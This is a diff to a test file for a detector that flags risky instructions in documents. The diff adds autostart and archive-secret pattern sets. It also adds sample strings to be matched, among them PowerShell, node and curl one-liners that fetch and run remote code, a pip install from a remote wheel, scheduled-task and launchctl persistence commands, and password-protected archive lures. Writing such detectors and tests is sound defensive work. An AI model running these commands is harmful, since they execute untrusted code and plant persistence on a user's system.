@@ -1,9 +1,11 @@
 import { readdirSync, readFileSync } from 'node:fs';
 import { expect, test } from 'vitest';
+import { AUTOSTART } from '../../../src/core/instructions/documents/autostart.ts';
 import {
   PACKAGE_INDEX,
   PASSWORD_ARCHIVE,
   PASTE_TO_RUN,
+  SECRET_OF_ARCHIVE,
 } from '../../../src/core/instructions/documents/downloadPatterns.ts';
 import { withoutMarks } from '../../../src/core/instructions/documents/marks.ts';
 import { IN_OTHER_LANGUAGES } from '../../../src/core/instructions/documents/otherLanguages.ts';
@@ -19,6 +21,8 @@ const PATTERNS = [
   ...SECURITY_OFF,
   ...PRIVILEGE,
   ...PASSWORD_ARCHIVE,
+  ...SECRET_OF_ARCHIVE,
+  ...AUTOSTART,
   ...PACKAGE_INDEX,
   ...PASTE_TO_RUN,
   ...IN_OTHER_LANGUAGES,
@@ -41,6 +45,16 @@ const PLAIN = [
   'Turn your firewall off first.',
   'sudo spctl --master-disable',
   'Run it with elevated privileges.',
+  '& ([scriptblock]::Create((irm https://a.invalid/x)))',
+  'node -e "fetch(`https://a.invalid/x`).then(r => r.text()).then(eval)"',
+  'curl https://a.invalid/x.tgz | tar xz && ./x/start',
+  'Der Inhalt von model.rar ist **geschützt**, Passwort: x1122.',
+  'Passwort: x1122, und dann model.zip öffnen',
+  'the archive (password 1122)',
+  'Unlock key: 1122.',
+  'schtasks /create /tn update /tr x.exe',
+  'launchctl load x.plist',
+  'pip install https://a.invalid/x.whl',
 ];
 
 test.each(PATTERNS)('$id ($kind): what it matches holds what it needs', ({ matches, needs }) => {
